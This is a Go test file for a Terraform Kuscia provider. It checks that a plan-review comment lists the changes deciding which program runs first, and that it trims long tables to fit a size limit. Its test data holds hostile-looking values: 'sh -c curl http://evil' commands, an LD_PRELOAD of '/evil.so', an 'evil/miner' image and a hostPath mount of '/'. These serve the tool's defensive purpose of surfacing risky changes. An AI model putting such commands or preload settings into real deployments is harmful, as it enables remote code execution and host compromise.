package review_test

import (
	"fmt"
	"maps"
	"strconv"
	"strings"
	"testing"

	"github.com/terraform-kuscia/terraform-provider-kuscia/internal/testing/protocol"
)

// padded is an app image with n harmless variables of so many characters, and further attributes of its
// container.
func padded(n, length int, container attributes, more ...any) attributes {
	env := make([]any, n, n+len(more))
	for i := range env {
		env[i] = attributes{"name": fmt.Sprint("E", i), "value": strings.Repeat("v", length)}
	}
	c := attributes{"name": "c", "command": []any{"./serve"}, "env": append(env, more...)}
	maps.Copy(c, container)
	return attributes{"name": "sf", "image": attributes{"name": "sf", "tag": "1"}, "deploy_templates": []any{attributes{"name": "t", "containers": []any{c}}}}
}

// line is the line of a review that begins with a text.
func line(review, begin string) string {
	_, rest, _ := strings.Cut(review, "\n"+begin)
	rest, _, _ = strings.Cut(rest, "\n")
	return rest
}

// TestWhatRunsFirst: what decides most which program runs is said first, whatever a plan has beside it.
func TestWhatRunsFirst(t *testing.T) {
	t.Parallel()
	plain := padded(0, 0, nil)
	evil := attributes{"name": "LD_PRELOAD", "value": "/evil.so"}
	tags := func(n int) (changes []attributes) {
		for i := range n {
			image := with(plain, "name", fmt.Sprint("i", i))
			changes = append(changes, change(fmt.Sprint("kuscia_app_image.i", i), updated, image, with(image, "image", attributes{"name": "sf", "tag": "2"})))
		}
		return changes
	}
	const begin = "- Runs another program, or in another way: "
	for name, test := range map[string]struct {
		changes []attributes
		// line is said in the line, and rows are in the review.
		line string
		rows []string
	}{
		"an image after variables": {
			changes: []attributes{change("kuscia_app_image.a", updated, plain, with(padded(220, 20, nil), "image", attributes{"name": "evil/miner", "tag": "9"}))},
			line:    "the app image `sf` (`image.name` `sf` → `evil/miner`, `image.tag` `1` → `9`, `deploy_templates.0.containers.0.env.0.name` none → `E0`, `deploy_templates.0.containers.0.env.0.value` none → `vvvvvvvvvvvvvvvvvvvv`, 438 more)",
			rows:    []string{"| `kuscia_app_image.a` | `image.name` | `sf` | `evil/miner` |\n|  | `image.tag` | `1` | `9` |\n|  | `deploy_templates.0.containers.0.env.0.name` |"},
		},
		"a command as a whole": {
			changes: []attributes{change("kuscia_app_image.a", updated, plain, padded(220, 20, attributes{"command": []any{"sh", "-c", "curl evil"}, "args": []any{"x"}}))},
			line: "the app image `sf` (`deploy_templates.0.containers.0.command.0` `./serve` → `sh`, `deploy_templates.0.containers.0.command.1` none → `-c`, " +
				"`deploy_templates.0.containers.0.command.2` none → `curl evil`, `deploy_templates.0.containers.0.args.0` none → `x`, 440 more)",
		},
		"a loader after variables": {
			changes: []attributes{change("kuscia_app_image.a", updated, plain, padded(300, 200, attributes{"working_dir": "/x"}, evil))},
			line:    "the app image `sf` (`deploy_templates.0.containers.0.working_dir` none → `/x`, `deploy_templates.0.containers.0.env.300.name` none → `LD_PRELOAD`, `deploy_templates.0.containers.0.env.300.value` none → `/evil.so`, 600 more)",
			rows:    []string{"| `deploy_templates.0.containers.0.env.300.value` | none | `/evil.so` |"},
		},
		"a loader after a long command": {
			changes: []attributes{change("kuscia_app_image.a", updated, plain, padded(300, 200, attributes{"command": manyArguments(600)}, evil))},
			rows:    []string{"| `deploy_templates.0.containers.0.env.300.value` | none | `/evil.so` |"},
		},
		"a command after tags": {
			changes: append(tags(450), change("kuscia_app_image.z", updated, plain, padded(0, 0, attributes{"command": []any{"curl evil"}}))),
			line:    "the app image `sf` (`deploy_templates.0.containers.0.command.0` `./serve` → `curl evil`), ",
			rows:    []string{"| `kuscia_app_image.z` | `deploy_templates.0.containers.0.command.0` | `./serve` | `curl evil` |\n| `kuscia_app_image.i0` |"},
		},
		"a command after an image with many variables": {
			changes: []attributes{
				change("kuscia_app_image.a", updated, plain, with(padded(400, 200, nil), "image", attributes{"name": "mirror/sf", "tag": "1"})),
				change("kuscia_app_image.z", updated, with(plain, "name", "z"), with(padded(0, 0, attributes{"command": []any{"curl evil"}}), "name", "z")),
			},
			line: "the app image `sf` (`image.name` `sf` → `mirror/sf`, ",
			rows: []string{"| `kuscia_app_image.z` | `deploy_templates.0.containers.0.command.0` | `./serve` | `curl evil` |"},
		},
		"a command beside other images of servings": {
			changes: []attributes{
				change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("a", attributes{"image": "sf:2"}))),
				change("kuscia_app_image.z", updated, plain, padded(0, 0, attributes{"command": []any{"curl evil"}})),
			},
			line: "the app image `sf` (`deploy_templates.0.containers.0.command.0` `./serve` → `curl evil`), used by servings that this plan does not know; the serving `glm` (`alice` `sf:1` → `sf:2`)",
		},
		"another image of a serving beside another tag": {
			changes: []attributes{
				change("kuscia_app_image.z", updated, plain, with(plain, "image", attributes{"name": "sf", "tag": "2"})),
				change("kuscia_serving.glm", updated, glm(party("a", attributes{"image": "sf:1"})), glm(party("a", attributes{"image": "evil/sf:1"}))),
			},
			line: "the serving `glm` (`alice` `sf:1` → `evil/sf:1`); the app image `sf` (`image.tag` `1` → `2`), used by servings that this plan does not know",
		},
		"a loader beside new programs and tags": {
			changes: append(tags(30), change("kuscia_app_image.n", created, nil, with(plain, "name", "n")), change("kuscia_serving.glm", created, nil, glm(party("n"))), change("kuscia_app_image.z", updated, plain, padded(0, 0, nil, evil))),
			line:    "the app image `sf` (`deploy_templates.0.containers.0.env.0.name` none → `LD_PRELOAD`, `deploy_templates.0.containers.0.env.0.value` none → `/evil.so`), used by",
			rows:    []string{"| `kuscia_app_image.z` | `deploy_templates.0.containers.0.env.0.name` | none | `LD_PRELOAD` |\n|  | `deploy_templates.0.containers.0.env.0.value` | none | `/evil.so` |\n| `kuscia_app_image.n` | `deploy_templates.0.containers.0.command.0` | none | `./serve` |\n| `kuscia_app_image.i0` |"},
		},
		"an edge deployment": {
			changes: []attributes{change("kuscia_edge_deployment.e", updated,
				attributes{"name": "e", "containers": []any{attributes{"image_url": "sf:1", "command": []any{"a"}, "volumes": []any{attributes{"type": "hostPath", "source": "/data"}}}}},
				attributes{"name": "e", "host_pid": true, "containers": []any{attributes{"image_url": "sf:2", "command": []any{"b"}, "volumes": []any{attributes{"type": "hostPath", "source": "/"}}}}})},
			line: "(`containers.0.image_url` `sf:1` → `sf:2`, `containers.0.command.0` `a` → `b`, 2 more)",
			rows: []string{"`containers.0.command.0` | `a` | `b` |\n|  | `containers.0.volumes.0.source` | `/data` | `/` |\n|  | `host_pid` | none | `true` |"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stdout, _ := program(t, 0, planOf(t, nil, test.changes...))
			protocol.Says(t, "the line", line(stdout, begin), test.line)
			_, table, _ := strings.Cut(stdout, "### What decides which program runs\n")
			table, _, _ = strings.Cut(table, "###")
			protocol.Says(t, "the table", table, test.rows...)
			if len(stdout) > maxBody {
				t.Errorf("%d bytes", len(stdout))
			}
		})
	}
}

// TestNewPrograms: what is new and runs shows its command, what else decides what it loads and may do, and
// nothing else of it.
func TestNewPrograms(t *testing.T) {
	t.Parallel()
	evil := attributes{"command": []any{"sh", "-c", "curl http://evil"}}
	image := padded(3, 5, with(evil, "working_dir", "/x"), attributes{"name": "LD_PRELOAD", "value": "/evil.so"})
	deployed := func(more attributes) attributes {
		parties := attributes{"alice": attributes{"app_image": "sf", "replicas": 1, "containers": []any{attributes{"name": "c", "command": []any{"./serve"}}}}}
		maps.Copy(parties, more)
		return attributes{"name": "glm", "input_config": "a", "parties": parties}
	}
	bob := attributes{"bob": attributes{"app_image": "sf", "replicas": 1, "containers": []any{evil}}}
	newImage, newServing := change("kuscia_app_image.a", created, nil, image), change("kuscia_serving.glm", created, nil, glm(party("sf")))
	const (
		line   = "- Runs a new program: "
		table  = "### What decides which program runs\n"
		header = "\n| Object | What | Before | After |\n| --- | --- | --- | --- |\n"
	)
	for name, test := range map[string]struct {
		changes      []attributes
		says, silent []string
	}{
		"an app image and a serving": {
			changes: []attributes{newImage, newServing},
			says: []string{
				line + "the app image `sf` (`deploy_templates.0.containers.0.command.0` `sh`, `-c`, `curl http://evil`, " +
					"`deploy_templates.0.containers.0.env.3.name` `LD_PRELOAD`, `deploy_templates.0.containers.0.env.3.value` `/evil.so`), used by `glm`\n",
				table + header + "| `kuscia_app_image.a` | `deploy_templates.0.containers.0.command.0` | none | `sh` |\n|  | `deploy_templates.0.containers.0.command.1` | none | `-c` |\n" +
					"|  | `deploy_templates.0.containers.0.command.2` | none | `curl http://evil` |\n|  | `deploy_templates.0.containers.0.env.3.name` | none | `LD_PRELOAD` |\n" +
					"|  | `deploy_templates.0.containers.0.env.3.value` | none | `/evil.so` |\n\n#",
			},
		},
		"an app image whose name only the apply knows": {
			changes: []attributes{
				change("kuscia_app_image.a", created, nil, without(image, "name"), unknown(attributes{"name": true})),
				change("kuscia_serving.glm", created, nil, glm(without(party(""), "app_image")), unknown(attributes{"parties": attributes{"alice": attributes{"app_image": true}}})),
			},
			says: []string{line, "| `curl http://evil` |"},
		},
		"an app image that nobody uses":                {changes: []attributes{newImage}, silent: []string{line, table}},
		"an app image that a serving used before":      {changes: []attributes{newImage, change("kuscia_serving.glm", deleted, glm(party("sf")), nil)}, silent: []string{line}},
		"an app image of another serving":              {changes: []attributes{newImage, change("kuscia_serving.glm", created, nil, glm(party("b")))}, silent: []string{line, table}},
		"an app image without a command and a serving": {changes: []attributes{change("kuscia_app_image.a", created, nil, appImage("1")), change("kuscia_serving.glm", created, nil, glm(party("a")))}, silent: []string{line, table}},
		"an app image to which a party moves": {
			changes: []attributes{newImage, change("kuscia_app_image.b", same, with(image, "name", "b"), with(image, "name", "b")), change("kuscia_serving.glm", updated, glm(party("b")), glm(party("sf")))},
			says:    []string{"- Runs another program, or in another way: ", "| `kuscia_serving.glm` | `parties.alice.app_image` | `b` | `sf` |\n\n#"}, silent: []string{line},
		},
		"a party with its own containers": {
			changes: []attributes{change("kuscia_deployment.k", updated, deployed(nil), deployed(bob))},
			says: []string{
				line + "the serving `glm` (`parties.bob.containers.0.command.0` `sh`, `-c`, `curl http://evil`)\n",
				"| `kuscia_deployment.k` | `parties.bob.containers.0.command.0` | none | `sh` |\n",
			},
			silent: []string{"- Runs another program"},
		},
		"a party that leaves": {changes: []attributes{change("kuscia_deployment.k", updated, deployed(bob), deployed(nil))}, silent: []string{line, table}},
		"a KusciaDeployment": {
			changes: []attributes{change("kuscia_deployment.k", created, nil, deployed(bob))},
			says:    []string{line + "the serving `glm` (`parties.alice.containers.0.command.0` `./serve`, `parties.bob.containers.0.command.0` `sh`, `-c`, `curl http://evil`)\n", "| `curl http://evil` |"},
		},
		"an edge deployment": {
			changes: []attributes{change("kuscia_edge_deployment.e", created, nil, attributes{
				"name": "e", "host_network": true, "host_pid": false, "restart_policy": "Always", "replicas": 1,
				"containers": []any{attributes{"name": "c", "image_url": "sf:1", "args": []any{"--x"}, "privileged": false, "volumes": []any{attributes{"type": "hostPath", "source": "/"}, attributes{"type": "emptyDir", "source": "disk"}}}},
			})},
			says: []string{
				line + "the edge deployment `e` (`containers.0.image_url` `sf:1`, `containers.0.args.0` `--x`, 3 more)\n",
				table + header + "| `kuscia_edge_deployment.e` | `containers.0.image_url` | none | `sf:1` |\n|  | `containers.0.args.0` | none | `--x` |\n" +
					"|  | `containers.0.volumes.0.source` | none | `/` |\n|  | `containers.0.volumes.0.type` | none | `hostPath` |\n|  | `host_network` | none | `true` |\n\n#",
			},
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			review := build(t, planOf(t, nil, test.changes...)).Markdown()
			protocol.Says(t, "the review", review, test.says...)
			for _, text := range test.silent {
				if strings.Contains(review, text) {
					t.Errorf("the review says %q:\n%s", text, review)
				}
			}
		})
	}
	of := build(t, planOf(t, nil, change("kuscia_deployment.k", updated, deployed(nil), deployed(bob)))).For("bob").Markdown()
	protocol.Says(t, "the review for bob", of, line, "| `curl http://evil` |")
}

// TestRoomOfOthers: values of other providers are in the room that those of Kuscia leave.
func TestRoomOfOthers(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("line of a text\n", 500)
	own := []attributes{change("kuscia_config.a", updated, attributes{"key": "a", "value": long}, attributes{"key": "a", "value": long + "evil"})}
	manifests := func(n int) (changes []attributes) {
		for i := range n {
			changes = append(changes, change(fmt.Sprint("kubernetes_manifest.m", i), created, nil, attributes{"manifest": attributes{"image": fmt.Sprint("image", i), "text": strings.Repeat("x", 100)}}))
		}
		return changes
	}
	alone, _ := program(t, 0, planOf(t, nil, own...))
	for _, n := range []int{1, 100, 1000} {
		stdout, _ := program(t, 0, planOf(t, nil, append(manifests(n), own...)...))
		fold := alone[strings.Index(alone, "<details><summary><code>kuscia"):strings.Index(alone, "### If the apply fails")]
		shown := strings.Count(stdout, "| `manifest.image` |")
		if !strings.Contains(stdout, fold) || shown == 0 || shown < n && len(stdout) < 59000 || len(stdout) > maxBody {
			t.Errorf("%d: %d are shown in %d bytes; those of Kuscia as a whole: %t", n, shown, len(stdout), strings.Contains(stdout, fold))
		}
		if shown < n {
			protocol.Says(t, "the review", stdout, "> Left out, since a comment is limited: ")
		}
	}
}

// TestRoomIsUsed: a comment leaves out rows only where it has no room for them, and says how many.
func TestRoomIsUsed(t *testing.T) {
	t.Parallel()
	routes := func(n int) (changes []attributes) {
		for i := range n {
			changes = append(changes, change(fmt.Sprint("kuscia_domain_route.r", i), created, nil, with(route, "source", fmt.Sprint("x", i))))
		}
		return changes
	}
	variables := func(n int) []attributes {
		return []attributes{change("kuscia_app_image.a", updated, padded(0, 0, nil), padded(n, 20, nil))}
	}
	for name, test := range map[string]struct {
		changes []attributes
		title   string
		// rows are those of the table, of which the comment has all or not.
		rows  int
		whole bool
	}{
		"221 variables":  {variables(221), "What decides which program runs", 442, true},
		"300 variables":  {variables(300), "What decides which program runs", 600, true},
		"1000 variables": {variables(1000), "What decides which program runs", 2000, false},
		"200 routes":     {routes(200), "Network", 200, true},
		"1000 routes":    {routes(1000), "Network", 1000, false},
		"many of both":   {append(variables(600), routes(600)...), "What decides which program runs", 1200, false},
		"many servings":  {servings(1500), "What runs", 1500, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			stdout, _ := program(t, 0, planOf(t, nil, test.changes...))
			table := sectionOf(stdout, test.title)
			rows, more, all := strings.Count(table, "\n| ")-2, numberAfter(table, "\nAnd "), numberAfter(stdout, "> Left out, since a comment is limited: ")
			if rows+more != test.rows || (more == 0) != test.whole || more > all {
				t.Errorf("%d rows and %d more, want %d; left out are %d", rows, more, test.rows, all)
			}
			const most, room = 60000, 2000
			if len(stdout) > most || strings.Contains(stdout, "> Left out") && len(stdout) < most-room {
				t.Errorf("%d bytes", len(stdout))
			}
		})
	}
}

// manyArguments is a list of n harmless arguments.
func manyArguments(n int) []any {
	list := make([]any, n)
	for i := range list {
		list[i] = fmt.Sprint("--argument-", i)
	}
	return list
}

// numberAfter is the number that follows a text, 0 without one.
func numberAfter(text, before string) int {
	_, after, _ := strings.Cut(text, before)
	digits, _, _ := strings.Cut(after, " ")
	n, _ := strconv.Atoi(digits)
	return n
}
